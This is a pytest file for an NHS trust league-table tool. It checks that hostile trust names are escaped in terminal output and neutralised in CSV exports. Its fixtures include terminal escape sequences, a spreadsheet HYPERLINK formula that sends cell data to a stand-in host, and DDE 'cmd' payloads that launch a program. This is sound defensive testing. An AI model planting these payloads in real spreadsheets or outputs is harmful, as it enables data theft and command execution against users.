"""Safe output: hostile trust names reach neither the terminal nor a spreadsheet as commands.

* Terminal (issue 12, case 6): a name carrying ANSI escapes (clear the screen, set the window
  title), a newline followed by a fake table row, a carriage return or a bidi override is
  printed by ``league table``, ``explain``, ``movement``, ``revisions`` and ``status`` with
  those characters visibly escaped (``\\x1b``, ``\\n``, ``\\u202e``): every table keeps its rows.
* CSV (case 7): a name starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  written with a single quote in front in the official CSV exports, the insights CSVs and the
  ``--csv`` files of ``movement`` and ``revisions``; numbers (negative values too) are not
  changed. NHS England's real files stay byte-identical
  (``tests/integration/test_outputs_exports.py``).

The hostile names are put into a snapshot of NHS England's real files (the acute Q1 file and the
mental health file's Q1 and Q2 rows, as ``tests/support/outputs_support.py`` builds them),
bypassing the source checks, which is the worst case for the outputs.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import pandas as pd
import pytest
from outputs_support import ACUTE_KIND, MHC_KIND, Q1, Q2, RealHome, write_snapshot

from league_pipeline.cli import main
from league_pipeline.cli.common import terminal_safe, terminal_safe_frame
from league_pipeline.core.settings import Settings
from league_pipeline.formats.nof import read_nof_league_table, read_nof_trust_data
from league_pipeline.ingest.store import SourceStore
from league_pipeline.outputs.exports import neutralise_cell, neutralise_formulas
from league_pipeline.snapshots.store import SnapshotStore

ESC = "\x1b"
# trust code -> hostile name (acute Q1 trusts, and mental health trusts in Q1 and Q2)
TERMINAL_NAMES = {
    "R0A": f"{ESC}[2J{ESC}[HScreen cleared",
    "R0B": f"{ESC}]0;pwned title\x07Title Trust",
    "R0D": "Fake Trust\n1    RXX    A fake row    1.00",
    "R1F": "Overwritten\rRewritten line",
    "R1H": "\u202eTSURT HTLAEH STRAB",
    "RA2": "Tab\tand C1 \x9b31m red",
}
FORMULA_NAMES = {
    "RA7": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "RAE": "+cmd|' /C calc'!A0",
    "RAJ": "-2+3+cmd|' /C calc'!A0",
    "RAL": "@SUM(1+1)*cmd|' /C calc'!A0",
    "RAX": "\t=1+1",
    "RAS": "\r=1+1",
}
HOSTILE = {**TERMINAL_NAMES, **FORMULA_NAMES}
UNSAFE_CATEGORIES = {"Cc", "Cf", "Zl", "Zp"}


def _unsafe(text: str) -> list[str]:
    """Characters a terminal acts on, other than the line ends that separate printed lines."""
    return [c for c in text if unicodedata.category(c) in UNSAFE_CATEGORIES and c != "\n"]


def _rename(frame: pd.DataFrame, names: dict[str, str]) -> pd.DataFrame:
    out = frame.copy()
    for code, name in names.items():
        out.loc[out["Trust_code"] == code, "Trust_name"] = name
    return out


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory, acute_bytes, mh_bytes) -> RealHome:
    """Q1 v1 and v2 (one acute value revised) and Q2 v1, every hostile name in each; the mental
    health trusts named hostile too, so that movement (Q1 -> Q2) lists them."""
    home = tmp_path_factory.mktemp("hostile-home")
    sources = SourceStore(home / "sources")
    shas = {
        ACUTE_KIND: sources.put(acute_bytes, url="file:///real/acute-q1.csv").sha256,
        MHC_KIND: sources.put(mh_bytes, url="file:///real/mhc-q1q2.csv").sha256,
    }
    acute = _rename(read_nof_trust_data(acute_bytes, Q1), HOSTILE)
    mhc = read_nof_trust_data(mh_bytes)
    mh_codes = list(mhc["Trust_code"].drop_duplicates())[:4]
    picked = [TERMINAL_NAMES[c] for c in ("R0D", "R1F")] + [
        FORMULA_NAMES[c] for c in ("RA7", "RAE")
    ]
    mh_names = dict(zip(mh_codes, picked, strict=True))
    mhc = _rename(mhc, mh_names)
    real = RealHome(home, SnapshotStore(home / "lake"), sources, acute, mhc, shas)
    mh_q1 = mhc[mhc["Quarter"] == Q1]
    write_snapshot(real, Q1, pd.concat([acute, mh_q1], ignore_index=True), shas)
    revised = acute.copy()
    for code in ("R0D", "RA7"):  # a terminal name and a formula name revised
        row = (revised["Trust_code"] == code) & (revised["Metric_ID"] == "OF0014")
        assert row.sum() == 1 and revised.loc[row, "Value"].notna().all()
        revised.loc[row, "Value"] = revised.loc[row, "Value"] + 3
    write_snapshot(real, Q1, pd.concat([revised, mh_q1], ignore_index=True), shas)
    write_snapshot(real, Q2, mhc[mhc["Quarter"] == Q2].reset_index(drop=True), shas)
    real.mh_names = mh_names
    return real


@pytest.fixture
def at_home(hostile_home) -> RealHome:
    return hostile_home


def run(capsys, home: RealHome, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv), settings=Settings.for_home(home.home, whatif_checked=0))
    out, err = capsys.readouterr()
    return code, out, err


# --------------------------------------------------------------------------------------------
# the helpers
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Plain NHS Trust", "Plain NHS Trust"),
        ("Café Trust – Ōxford", "Café Trust – Ōxford"),  # printable non-ASCII is kept
        (f"{ESC}[2JX", "\\x1b[2JX"),
        (f"{ESC}]0;title\x07X", "\\x1b]0;title\\x07X"),
        ("a\nb\rc\td", "a\\nb\\rc\\td"),
        ("\x9b31m\x7f\x00", "\\x9b31m\\x7f\\x00"),  # C1 CSI, DEL, NUL
        ("\u202eevil\u202c \u2066x\u2069 \u200f", "\\u202eevil\\u202c \\u2066x\\u2069 \\u200f"),
        ("a\u2028b\u2029c", "a\\u2028b\\u2029c"),
    ],
)
def test_terminal_safe_escapes_every_control_character(raw, shown):
    assert terminal_safe(raw) == shown
    assert not _unsafe(terminal_safe(raw))


def test_terminal_safe_leaves_other_values_and_frames_alone():
    assert terminal_safe(3) == 3 and terminal_safe(None) is None
    frame = pd.DataFrame({"name": [f"{ESC}[2J", None], "value": [-1.5, 2.0]})
    safe = terminal_safe_frame(frame)
    assert safe["name"].iloc[0] == "\\x1b[2J" and pd.isna(safe["name"].iloc[1])
    assert safe["value"].tolist() == [-1.5, 2.0]
    assert frame["name"].iloc[0] == f"{ESC}[2J"  # the original is not changed


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),  # a number written as text is a number, not a formula
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("1.2 to 1.89", "1.2 to 1.89"),
        ("Barts Health NHS Trust", "Barts Health NHS Trust"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell, written):
    assert neutralise_cell(cell) == written


def test_neutralise_formulas_changes_text_cells_only():
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "ok", None],
            "value": [-1.5, -2.0, 3.0],
            "flag": [True, False, True],
            "text": pd.array(["@x", "-4", pd.NA], dtype="string"),
        }
    )
    out = neutralise_formulas(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["name"].iloc[2])
    assert out["value"].tolist() == [-1.5, -2.0, 3.0] and out["value"].dtype == "float64"
    assert out["flag"].tolist() == [True, False, True]
    assert out["text"].tolist()[:2] == ["'@x", "-4"]
    assert frame["name"].iloc[0] == "=1+1"  # a copy
    clean = frame.iloc[[1]]
    assert neutralise_formulas(clean) is clean  # nothing to change: no copy


# --------------------------------------------------------------------------------------------
# the terminal
# --------------------------------------------------------------------------------------------
def _assert_terminal_safe(out: str) -> None:
    assert ESC not in out and "\r" not in out and "\x07" not in out and "\x9b" not in out
    assert not _unsafe(out), sorted(set(_unsafe(out)))


def test_league_table_prints_hostile_names_escaped(capsys, at_home):
    code, out, err = run(capsys, at_home, "table", "--quarter", Q1, "--version", "1")
    assert code == 0, err
    _assert_terminal_safe(out)
    lines = out.splitlines()
    trusts = at_home.acute["Trust_code"].nunique()
    # title, header, rule, then exactly one line a trust: no fake row was added
    assert lines[0] == "Acute trusts, 2025/26 Q1 (snapshot v1)"
    codes = [line.split()[1] for line in lines[3:] if line[:1] == " " or line[:1].isdigit()]
    assert sorted(codes) == sorted(at_home.acute["Trust_code"].unique())
    by_code = {line.split()[1]: line for line in lines[3 : 3 + trusts]}
    assert set(by_code) == set(at_home.acute["Trust_code"])
    assert "\\x1b[2J\\x1b[HScreen cleared" in by_code["R0A"]
    assert "\\x1b]0;pwned title\\x07Title Trust" in by_code["R0B"]
    assert "Fake Trust\\n1    RXX    A fake row" in by_code["R0D"]
    assert "Overwritten\\rRewritten line" in by_code["R1F"]
    assert "\\u202eTSURT HTLAEH STRAB" in by_code["R1H"]
    assert "Tab\\tand C1 \\x9b31m red" in by_code["RA2"]


def test_explain_movement_revisions_and_status_print_names_escaped(capsys, at_home):
    for code_ in TERMINAL_NAMES:
        code, out, err = run(capsys, at_home, "explain", code_, "--quarter", Q1, "--version", "1")
        assert code == 0, err
        _assert_terminal_safe(out)
        assert out.splitlines()[0] == f"{terminal_safe(TERMINAL_NAMES[code_])} ({code_}), " + (
            "2025/26 Q1 (snapshot v1)"
        )
    # --json escapes them as JSON does
    code, out, _ = run(capsys, at_home, "explain", "R0A", "--quarter", Q1, "--json")
    assert code == 0 and ESC not in out and "\\u001b[2J" in out

    code, out, err = run(capsys, at_home, "movement", "--quarter", Q2, "--all")
    assert code == 0, err
    _assert_terminal_safe(out)
    shown = [name for name in at_home.mh_names.values() if name in TERMINAL_NAMES.values()]
    assert len(shown) == 2
    for name in shown:
        assert terminal_safe(name[:45]) in out

    code, out, err = run(capsys, at_home, "revisions", "--quarter", Q1, "--all")
    assert code == 0, err
    _assert_terminal_safe(out)
    assert "R0D" in out and "Fake Trust\\n1" in out

    code, out, err = run(capsys, at_home, "status")
    assert code == 0, err
    _assert_terminal_safe(out)

    # an unknown trust code typed with escapes comes back escaped in the one error line
    code, out, err = run(capsys, at_home, "explain", f"{ESC}[2J", "--quarter", Q1)
    assert code == 2 and ESC not in err


def test_whatif_prints_names_escaped_in_each_format(capsys, at_home):
    """``league whatif --format``: the trust's name escaped for a terminal in the table,
    markdown and csv, a \\u escape in json (which reads back as the name itself)."""
    from league_pipeline.cli.render import FORMATS

    for code_ in ("R0A", "R0D", "R1F"):
        name = TERMINAL_NAMES[code_]
        for fmt in FORMATS:
            argv = ("whatif", code_, "--quarter", Q1, "--set", "OF0082=4", "--format", fmt)
            code, out, err = run(capsys, at_home, *argv)
            assert code == 0, (code_, fmt, err)
            _assert_terminal_safe(out)
            if fmt == "json":
                assert json.loads(out)["trust_name"] == name
            elif fmt == "csv":
                rows = list(csv.DictReader(io.StringIO(out)))
                assert rows and {r["trust_name"] for r in rows} == {terminal_safe(name)}
            else:
                assert f"{terminal_safe(name)} ({code_}), 2025/26 Q1" in out.replace("\n", " ")
    code, out, _ = run(
        capsys, at_home, "whatif", "R0A", "--quarter", Q1, "--set", "OF0082=4", "--format", "json"
    )
    assert code == 0 and "\\u001b[2J" in out


# --------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------
def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
    ]


def test_official_exports_neutralise_formula_names(at_home, tmp_path):
    from league_pipeline.outputs.exports import write_official_exports
    from league_pipeline.outputs.results import load_quarter

    results = load_quarter(Q1, 1, store=at_home.store)
    export = write_official_exports(results, tmp_path, source_store=at_home.sources)
    csvs = [p for p in export.files if p.suffix == ".csv"]
    assert len(csvs) == 4
    acute_table = next(p for p in csvs if "acute-trust-league-table" in p.name)
    acute_data = next(p for p in csvs if "acute-trust-data" in p.name)
    for path in csvs:
        rows = _cells(path.read_bytes())
        assert not _formula_cells(rows), path.name
        # no text cell starts with '-' unless it is a plain number
        assert not [c for row in rows[1:] for c in row if c.startswith("-") and not _is_number(c)]

    table = read_nof_league_table(acute_table.read_bytes(), Q1).set_index("Trust_code")
    for code, name in FORMULA_NAMES.items():
        assert table.loc[code, "Trust_name"] == "'" + name
    # the other hostile names are written unchanged (CSV quoting keeps them in their cell)
    assert table.loc["R0D", "Trust_name"] == TERMINAL_NAMES["R0D"]
    assert len(table) == at_home.acute["Trust_code"].nunique()

    data = read_nof_trust_data(acute_data.read_bytes(), Q1)
    # negative values are numbers and stay exactly as they were
    negative = data[data["Value"] < 0]
    assert len(negative) == (at_home.acute["Value"] < 0).sum() > 0
    text = acute_data.read_bytes().decode("utf-8-sig")
    assert ",-13.27," in text and ",'-13.27" not in text
    names = data.drop_duplicates("Trust_code").set_index("Trust_code")["Trust_name"]
    assert names["RAJ"] == "'-2+3+cmd|' /C calc'!A0"

    # the Parquet beside each CSV holds what the readers read back from it
    parquet = pd.read_parquet(acute_table.with_suffix(".parquet")).set_index("Trust_code")
    assert parquet.loc["RA7", "Trust_name"] == "'" + FORMULA_NAMES["RA7"]


def test_a_carriage_return_in_a_name_cannot_end_a_row(at_home, tmp_path):
    """Q2 follows the later layout (LF line ends), where Python's CSV writer would leave a bare
    CR unquoted: a spreadsheet would end the row there. It is quoted, and reads back whole."""
    from league_pipeline.outputs.exports import write_official_exports
    from league_pipeline.outputs.results import load_quarter

    results = load_quarter(Q2, store=at_home.store)
    export = write_official_exports(results, tmp_path, source_store=at_home.sources)
    trusts = at_home.mhc[at_home.mhc["Quarter"] == Q2]["Trust_code"].nunique()
    table = next(p for p in export.files if p.name.endswith("league-table.csv"))
    content = table.read_bytes()
    assert b"\r\n" not in content  # the later layout's LF line ends
    rows = _cells(content)
    assert len(rows) == 1 + trusts and all(len(r) == len(rows[0]) for r in rows)
    names = {r[5] for r in rows[1:]}
    assert TERMINAL_NAMES["R1F"] in names and TERMINAL_NAMES["R0D"] in names
    assert "'" + FORMULA_NAMES["RA7"] in names


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_insights_and_cli_csvs_neutralise_formula_names(capsys, at_home, tmp_path):
    from league_pipeline.outputs.publish import publish

    outputs = publish(Q2, store=at_home.store, source_store=at_home.sources, root=tmp_path)
    for path in outputs.insight_files:
        rows = _cells(path.read_bytes())
        assert not _formula_cells(rows), path.name
        assert all(len(r) == len(rows[0]) for r in rows), path.name  # no row cut by a CR
    explanations = pd.read_csv(outputs.folder / "insights" / "explanations.csv")
    formula = [n for n in at_home.mh_names.values() if n in FORMULA_NAMES.values()]
    assert {"'" + n for n in formula} <= set(explanations["trust_name"])

    moves_csv, revisions_csv = tmp_path / "moves.csv", tmp_path / "revisions.csv"
    code, _, err = run(capsys, at_home, "movement", "--quarter", Q2, "--csv", str(moves_csv))
    assert code == 0, err
    code, _, err = run(capsys, at_home, "revisions", "--quarter", Q1, "--csv", str(revisions_csv))
    assert code == 0, err
    for path in (moves_csv, revisions_csv):
        rows = _cells(path.read_bytes())
        assert not _formula_cells(rows), path.name
    revised = pd.read_csv(revisions_csv, keep_default_na=False).set_index("trust_code")
    assert revised.loc["RA7", "trust_name"] == "'" + FORMULA_NAMES["RA7"]


def test_whatif_csv_neutralises_formula_names(capsys, at_home):
    for code_ in ("RA7", "RAE", "RAS"):
        argv = ("whatif", code_, "--quarter", Q1, "--set", "OF0082=4", "--format", "csv")
        code, out, err = run(capsys, at_home, *argv)
        assert code == 0, err
        rows = _cells(out.encode())
        assert len(rows) > 2 and all(len(r) == len(rows[0]) for r in rows)  # no row cut by a CR
        assert not _formula_cells(rows)
        names = {r["trust_name"] for r in csv.DictReader(io.StringIO(out))}
        assert names == {neutralise_cell(terminal_safe(FORMULA_NAMES[code_]))}
